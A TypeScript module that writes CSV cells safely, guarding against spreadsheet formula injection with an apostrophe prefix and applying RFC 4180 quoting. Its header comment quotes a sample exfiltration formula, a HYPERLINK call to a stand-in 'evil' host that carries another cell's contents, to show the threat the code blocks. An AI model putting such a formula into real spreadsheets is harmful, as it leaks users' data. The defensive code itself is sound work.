// One CSV cell: formula injection neutralised, then RFC 4180 quoting. Pure.
//
// A spreadsheet treats a cell starting with = + - @ (and, in some, TAB or CR) as a formula; a dossier
// name or a server message like `=HYPERLINK("http://evil/?"&A1)` would run on the consultant's
// machine. Such cells get a leading apostrophe (OWASP's advice), which Excel and LibreOffice show as
// text.
export type Delimiter = ',' | ';';

const FORMULA_START = /^[=+\-@\t\r]/;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** RFC 4180: a field holding the delimiter, a quote, CR or LF is quoted, its quotes doubled. */
export function quoteField(value: string, delimiter: Delimiter): string {
  if (value.includes(delimiter) || value.includes('"') || value.includes('\n') || value.includes('\r')) {
    return `"${value.replace(/"/g, '""')}"`;
  }
  return value;
}

export type CellValue = string | number | boolean | null | undefined | readonly string[];

/** A list becomes one cell, items separated by ", " (the cell is quoted when needed). */
function cellText(value: CellValue): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return (value as readonly string[]).join(', ');
  return String(value);
}

/**
 * True when the text needs none of the treatments below: no formula start, no delimiter, quote, CR,
 * LF or surrogate anywhere. Most cells (numbers, dates, statuses, UUIDs) are like that, and one pass
 * over the character codes is several times cheaper than the regexes and searches (100k rows of 30
 * cells each is 3 million cells).
 */
function plain(text: string, delimiter: number): boolean {
  const first = text.charCodeAt(0);
  if (first === 61 || first === 43 || first === 45 || first === 64 || first === 9 || first === 13) return false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === delimiter || c === 34 || c === 10 || c === 13 || (c >= 0xd800 && c <= 0xdfff)) return false;
  }
  return true;
}

export function encodeCell(value: CellValue, delimiter: Delimiter): string {
  const raw = cellText(value);
  if (plain(raw, delimiter.charCodeAt(0))) return raw;
  // Lone surrogates would become U+FFFD in UTF-8 anyway; doing it here keeps what is written explicit.
  const text = raw.replace(LONE_SURROGATE, '\uFFFD');
  return quoteField(neutraliseFormula(text), delimiter);
}

/** One record, terminated by CRLF as RFC 4180 says. */
export function encodeRecord(values: readonly CellValue[], delimiter: Delimiter): string {
  let line = '';
  for (let i = 0; i < values.length; i++) line += (i === 0 ? '' : delimiter) + encodeCell(values[i], delimiter);
  return line + '\r\n';
}

/** UTF-8 byte order mark: Excel needs it to read UTF-8 (accented names, country codes are fine either way). */
export const BOM = '\uFEFF';
